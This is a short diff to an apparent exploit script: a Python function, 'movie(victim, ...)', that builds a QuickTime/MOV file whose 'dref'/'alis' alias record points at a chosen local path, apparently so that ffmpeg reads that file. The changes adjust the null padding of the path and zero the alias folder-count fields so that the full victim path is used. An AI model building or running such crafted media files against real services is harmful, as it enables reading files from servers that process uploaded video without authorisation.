@@ -55,10 +55,10 @@ def movie(victim: str, n_samples: int = 16_000, start: int = 44) -> bytes:
         data = b"".join(parts)
         return struct.pack(">I4s", 8 + len(data), kind) + data
 
-    # With a null at its end and of even length, or ffmpeg does not find it.
-    path = victim.encode() if len(victim.encode()) % 2 else b"/" + victim.encode()
-    path += b"\0"
-    record = struct.pack(">2xHHH2xB27s12xB63s16xHH16x", 0, 0, 0, 0, b"", 0, Path(victim).name.encode(), 1, 1)
+    path = victim.encode()
+    path += b"\0" * (len(path) % 2)
+    # The last two numbers are folders from here to there; with 0 the whole path counts.
+    record = struct.pack(">2xHHH2xB27s12xB63s16xHH16x", 0, 0, 0, 0, b"", 0, b"", 0, 0)
     record += struct.pack(">HH", 2, len(path)) + path + struct.pack(">HH", 0xFFFF, 0) + bytes(80)
     reference = box(b"dref", struct.pack(">II", 0, 1), box(b"alis", bytes(4), record))
     matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
